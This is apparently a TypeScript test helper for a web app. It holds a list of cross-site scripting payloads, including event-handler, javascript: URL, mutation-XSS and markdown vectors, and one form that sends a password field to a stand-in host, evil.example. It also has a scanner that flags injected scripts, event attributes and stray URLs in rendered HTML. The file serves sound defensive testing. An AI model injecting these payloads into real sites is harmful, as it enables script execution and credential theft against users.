import { documentOf } from './main-of.ts'

/** What runs as script, loads or leads somewhere when a page takes it for markup. */
export const vectors = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `'"><svg/onload=alert(1)>`,
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#9;script:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=password>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<input autofocus onfocus=alert(1)>',
  '" onmouseover="alert(1)" x="',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1)) ![x](x" onerror="alert(1))',
] as const
/** By this a text is known that came through. */
export const mark = 'alert(1)'

/** Elements that no page of ours has, whatever it says. */
const foreign = 'iframe, object, embed, base, math, frame, applet, [srcdoc], meta[http-equiv]'

/** What of a page could run, load or lead elsewhere because of a text. */
export function holesIn(html: string): string[] {
  const page = documentOf(html)
  const elements = [...page.querySelectorAll('*')]
  return [
    ...[...page.querySelectorAll(foreign)].map(({ outerHTML }) => outerHTML.slice(0, 100)),
    ...[...page.querySelectorAll('script, style')]
      .filter(each => !each.hasAttribute('nonce') && each.getAttribute('type') !== 'application/json')
      .map(({ outerHTML }) => outerHTML.slice(0, 100)),
    ...[...page.querySelectorAll('script[nonce]:not([type="application/json"]), style[nonce]')]
      .filter(({ textContent }) => textContent?.includes(mark))
      .map(({ outerHTML }) => outerHTML.slice(0, 100)),
    ...elements.flatMap(({ localName, attributes }) =>
      [...attributes].flatMap(({ name, value }) => {
        const leads = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name)
        const isStray = leads && /^[\s\p{Cc}]*(?:j\s*a\s*v\s*a|data:text|vbscript|\/\/)/iu.test(value)
        return /^on/.test(name) || isStray ? [`<${localName} ${name}="${value.slice(0, 80)}">`] : []
      }),
    ),
  ]
}
